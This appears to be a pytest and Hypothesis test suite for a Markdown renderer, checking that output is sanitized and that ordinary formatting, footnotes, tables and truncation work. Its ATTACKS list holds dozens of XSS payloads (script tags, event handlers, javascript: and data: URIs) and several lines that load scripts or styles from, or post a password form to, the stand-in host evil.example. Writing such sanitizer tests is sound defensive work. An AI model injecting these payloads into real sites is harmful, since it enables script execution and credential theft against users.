from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kit.markdown import plain, render

# After the OWASP XSS filter evasion cheat sheet, as HTML and in Markdown's own ways to make links and pictures.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x:gif" onerror="alert(0)">',
    "<IMG SRC=javascript:alert('XSS')>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<img src='x' onerror=&#0000106&#0000097&#0000118&#0000097>",
    "<IMG SRC=jav&#x09;ascript:alert('XSS');>",
    '<a href="jav\tascript:alert(1)">x</a>',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](x "onerror=alert(1)")',
    '![" onerror="alert(1)](https://evil.example/a.png)',
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    '[x](https://a.example/"onmouseover=alert(1)//)',
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "[^<script>]\n\n[^<script>]: x",
    '[^"onmouseover=alert(1)]\n\n[^"onmouseover=alert(1)]: x',
    "- [ ] <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
    "<a href=//evil.example>x</a>",
    "\u0000<script>alert(1)</script>",
]

TAGS = {
    *("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "code", "em", "strong", "s", "sup", "section"),
    *("ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "a", "img", "input", "span", "div"),
}
ATTRIBUTES = {
    *("href", "title", "id", "rel", "class", "src", "alt", "loading"),
    *("type", "disabled", "checked", "start", "align", "tabindex", "aria-label"),
}


class Seen(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Seen(html).tags:
        assert tag in TAGS, html
        assert set(attributes) <= ATTRIBUTES, html
        href = attributes.get("href")
        if href is not None:
            assert href.startswith(("http://", "https://", "mailto:", "/", "#")) or ":" not in href.partition("/")[0], html
            assert attributes["rel"] == "nofollow noopener"
        if tag == "img":
            assert str(attributes["src"]).startswith("/"), html
            assert not str(attributes["src"]).startswith("//"), html
        if tag == "input":
            assert attributes["type"] == "checkbox"
            assert "disabled" in attributes


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_becomes_markup(attack: str) -> None:
    assert_harmless(render(attack))
    assert_harmless(render(f"Before {attack} after\n\n> {attack}\n\n- {attack}"))


@given(st.text(alphabet=st.sampled_from(list("<>\"'&;:/()[]!`|#*-_=^~ \n\tjavscriptonerhf1")), max_size=120))
def test_no_mixture_of_signs_becomes_dangerous_markup(text: str) -> None:
    assert_harmless(render(text))


def test_html_is_shown_as_it_was_typed() -> None:
    assert "&lt;b&gt;bold&lt;/b&gt;" in render("<b>bold</b>")


def test_the_usual_markdown_works() -> None:
    html = render("# Title\n\n*a* **b** ~~c~~ `d`\n\n> quote\n\n3. three\n\n[site](https://a.example/x?a=1&b=2)")
    for piece in ("<h2>Title</h2>", "<em>a</em>", "<strong>b</strong>", "<s>c</s>", "<code>d</code>", "<blockquote>", '<ol start="3">'):
        assert piece in html
    assert '<a href="https://a.example/x?a=1&amp;b=2" rel="nofollow noopener">site</a>' in html


def test_headings_stay_below_the_page_s_own() -> None:
    html = render("# one\n\n###### six")
    assert "<h1" not in html
    assert "<h2>one</h2>" in html
    assert "<h6>six</h6>" in html


def test_tables_keep_their_alignment_without_inline_styles_and_can_scroll() -> None:
    html = render("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert '<th align="left">a</th>' in html
    assert '<td align="right">2</td>' in html
    assert '<div class="table-scroll" tabindex="0"><table>' in html
    assert "style=" not in html


def test_task_lists_are_boxes_that_cannot_be_ticked() -> None:
    html = render("- [x] done\n- [ ] open")
    assert html.count('type="checkbox"') == 2
    assert html.count("disabled=") == 2
    assert html.count("checked=") == 1


def test_code_is_coloured_by_classes_and_unknown_languages_stay_plain() -> None:
    assert '<span class="k">def</span>' in render("```python\ndef f(): pass\n```")
    assert render("```nosuch\n<b>\n```") == '<div class="code"><pre tabindex="0"><code>&lt;b&gt;\n</code></pre></div>\n'


def test_footnotes_of_two_texts_on_one_page_do_not_meet() -> None:
    one, other = render("a[^1]\n\n[^1]: one"), render("b[^1]\n\n[^1]: other")
    ids = [attributes["id"] for html in (one, other) for _tag, attributes in Seen(html).tags if attributes.get("id")]
    assert len(ids) == 4
    assert len(set(ids)) == 4


def test_pictures_are_ours_or_become_links() -> None:
    assert '<img src="/media/a.webp" alt="A cat" loading="lazy">' in render("![A cat](/media/a.webp)")
    elsewhere = render("![A cat](https://evil.example/pixel.gif)")
    assert "<img" not in elsewhere
    assert '<a href="https://evil.example/pixel.gif" rel="nofollow noopener">A cat</a>' in elsewhere
    assert "<img" not in render("![x](//evil.example/a.gif)")
    assert 'src="/%5Cevil.example/a.gif"' in render("![x](/\\evil.example/a.gif)")


def test_a_text_without_end_does_not_take_time_without_end() -> None:
    for bomb in ("[" * 50_000, "*a " * 50_000, "`" * 100_000, "> " * 20_000, "![[" * 30_000, "| " * 50_000, "a" * 1_000_000):
        assert_harmless(render(bomb))


def test_plain_gives_the_words_alone() -> None:
    assert plain("# Hello *there*\n\nSee [the site](https://a.example), `code`,\n\n- one\n- two ![alt text](/a.png)") == (
        "Hello there See the site, code, one two alt text"
    )
    assert plain("<script>alert(1)</script>") == "<script>alert(1)</script>"
    assert plain("") == ""


def test_plain_is_cut_at_a_word_and_never_longer_than_asked() -> None:
    assert plain("one two three four", 13) == "one two…"
    assert plain("one two three four", 14) == "one two three…"
    assert plain("one, two", 6) == "one…"
    assert plain("exactly", 7) == "exactly"
    assert plain("Donaudampfschifffahrt", 10) == "Donaudamp…"


@given(st.text(max_size=300), st.integers(min_value=2, max_value=80))
def test_plain_keeps_to_its_limit(text: str, limit: int) -> None:
    assert len(plain(text, limit)) <= limit
    assert "\n" not in plain(text, limit)
